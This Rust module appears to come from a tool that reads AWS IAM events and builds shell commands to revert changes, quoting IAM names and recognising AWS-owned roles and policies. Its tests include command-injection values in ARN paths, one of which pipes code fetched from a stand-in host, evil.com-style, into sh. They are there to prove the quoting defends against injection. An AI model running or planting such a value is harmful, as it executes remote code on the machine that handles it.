//! What events of IAM tell, alike for all controls.

use std::borrow::Cow;

use serde_json::Value;
use snapback::change::{IamIdentity, IdentityKind};
use snapback::event::Event;
use snapback::json;
use snapback::subject::Subject;

pub(crate) const SERVICE: &str = "iam.amazonaws.com";

/// Whose something is, as far as the event tells.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Whose<'a> {
    /// A user's who did not call.
    Anothers(&'a str),
    /// The user's who called.
    Callers(&'a str),
    /// The account's root user's, who called.
    Roots,
    Untold,
}

/// Whose credential a call is upon. A call that names nobody is upon the caller's own; the answer may name the user.
pub(crate) fn whose<'a>(event: &'a Event, answer: &'a str) -> Whose<'a> {
    let named = json::text(&event.request, "userName");
    let user = named.or_else(|| json::text(&event.response[answer], "userName"));
    let caller = event.actor.name.as_deref().filter(|_| event.actor.kind == "IAMUser");
    match user {
        Some(user) if caller.is_some_and(|caller| caller.eq_ignore_ascii_case(user)) => Whose::Callers(user),
        Some(user) => Whose::Anothers(user),
        None if event.actor.kind == "Root" => Whose::Roots,
        None => caller.map_or(Whose::Untold, Whose::Callers),
    }
}

/// Whose policies, groups or boundary a call is upon, if the event tells it.
pub(crate) fn identity(event: &Event) -> Option<IamIdentity> {
    let (kind, field) = match event.name.as_str() {
        name if name.contains("Role") => (IdentityKind::Role, "roleName"),
        name if name.contains("GroupPolicy") => (IdentityKind::Group, "groupName"),
        _ => (IdentityKind::User, "userName"),
    };
    Some(IamIdentity::named(kind, json::text(&event.request, field)?))
}

/// A text as a word of a command, for people to run: paths of IAM hold what shells act on.
pub(crate) fn word(text: &str) -> Cow<'_, str> {
    // Only a text with a zero byte is none, which no name holds.
    shlex::try_quote(text).unwrap_or(Cow::Borrowed("''"))
}

/// The one statement of a policy, or all of them.
pub(crate) fn statements(policy: &Value) -> Vec<&Value> {
    match &policy["Statement"] {
        lone @ Value::Object(_) => vec![lone],
        several => json::list(several),
    }
}

/// One text, or several.
pub(crate) fn texts(value: &Value) -> Vec<String> {
    match value {
        Value::String(text) => vec![text.clone()],
        several => json::list(several).into_iter().filter_map(Value::as_str).map(str::to_owned).collect(),
    }
}

/// A name as IAM has it, if it has it in another case: the names of users, groups, roles and policies differ by more.
/// <https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_iam-quotas.html#reference_iam-quotas-names>
pub(crate) fn spelled<'a>(name: &str, known: impl IntoIterator<Item = &'a String>) -> String {
    let mut known = known.into_iter();
    known.find(|one| one.eq_ignore_ascii_case(name)).map_or_else(|| name.to_owned(), Clone::clone)
}

pub(crate) fn subject(event: &Event, of: &IamIdentity) -> Subject {
    match of.kind {
        IdentityKind::User => Subject::user(event, &of.name),
        IdentityKind::Role => Subject::role(event, &of.name),
        IdentityKind::Group => Subject::group(event, &of.name),
    }
}

/// An instance profile, by its name. Only IAM knows its path, and with it the ARN.
pub(crate) fn instance_profile(event: &Event, name: &str) -> Subject {
    Subject::part(event, "instance profile", name, "iam", "instance-profile/", "iam/home#/roles")
}

/// The word of the command line for what an identity is, and the option that names it.
pub(crate) fn option_of(of: &IamIdentity) -> (&'static str, String) {
    match of.kind {
        IdentityKind::User => ("user", format!("--user-name {}", word(&of.name))),
        IdentityKind::Role => ("role", format!("--role-name {}", word(&of.name))),
        IdentityKind::Group => ("group", format!("--group-name {}", word(&of.name))),
    }
}

/// Whether a role is one that nobody but AWS can change: by the beginning of its path, as a path may hold colons.
/// <https://docs.aws.amazon.com/IAM/latest/APIReference/API_CreateRole.html>
pub(crate) fn is_of_aws(arn: &str) -> bool {
    let of_aws = ["role/aws-service-role/", "role/aws-reserved/"];
    arn.splitn(6, ':').nth(5).is_some_and(|role| of_aws.iter().any(|path| role.starts_with(path)))
}

/// What AWS calls a managed policy of its own, with its path: by the account in the ARN, as a path may hold colons.
/// <https://docs.aws.amazon.com/IAM/latest/APIReference/API_CreatePolicy.html>
pub(crate) fn policy_of_aws(arn: &str) -> Option<&str> {
    let parts: Vec<&str> = arn.splitn(6, ':').collect();
    let ["arn", _, "iam", _, "aws", policy] = parts[..] else { return None };
    policy.strip_prefix("policy/")
}

/// Why a revert of what somebody did through CloudFormation is an operator's to decide.
pub(crate) fn through_cloudformation(event: &Event) -> Option<String> {
    (event.actor.invoked_by.as_deref() == Some("cloudformation.amazonaws.com")).then(|| {
        format!(
            "CloudFormation did this for {}: undo it in the template of the stack, as a deployment would do it again",
            event.actor
        )
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_shell_acts_on_what_a_name_holds() {
        for path in ["/$(curl${IFS}evil.example|sh)/", "/`id`/", "/';id;'/", "/a&b<c>#!/"] {
            let arn = format!("arn:aws:iam::111122223333:policy{path}p");
            let command = format!("aws iam get-policy --policy-arn {}", word(&arn));
            assert_eq!(shlex::split(&command).expect("a command").last(), Some(&arn), "{command}");
            assert!(word(&arn).starts_with('\'') || word(&arn).starts_with('"'), "{command}");
        }
        let plain = "arn:aws:iam::111122223333:policy/team/p+.@_-";
        assert_eq!(word(plain), plain);
    }

    #[test]
    fn a_role_is_of_aws_by_the_beginning_of_its_path_alone() {
        for (path, is_aws) in [
            ("role/aws-service-role/ecs.amazonaws.com/AWSServiceRoleForECS", true),
            ("role/aws-reserved/sso.amazonaws.com/AWSReservedSSO_Admin_0123456789abcdef", true),
            ("role/x:role/aws-service-role/admin", false),
            ("role/x/aws-reserved/admin", false),
            ("instance-profile/x:role/aws-reserved/p", false),
        ] {
            assert_eq!(is_of_aws(&format!("arn:aws:iam::111122223333:{path}")), is_aws, "{path}");
        }
    }

    #[test]
    fn a_managed_policy_is_of_aws_by_the_account_in_its_arn_alone() {
        for (arn, name) in [
            ("arn:aws:iam::aws:policy/ReadOnlyAccess", Some("ReadOnlyAccess")),
            ("arn:aws-cn:iam::aws:policy/job-function/ViewOnlyAccess", Some("job-function/ViewOnlyAccess")),
            ("arn:aws:iam::111122223333:policy/ReadOnlyAccess", None),
            ("arn:aws:iam::111122223333:policy/x:iam::aws:policy/ReadOnlyAccess", None),
            ("ReadOnlyAccess", None),
        ] {
            assert_eq!(policy_of_aws(arn), name, "{arn}");
        }
    }
}
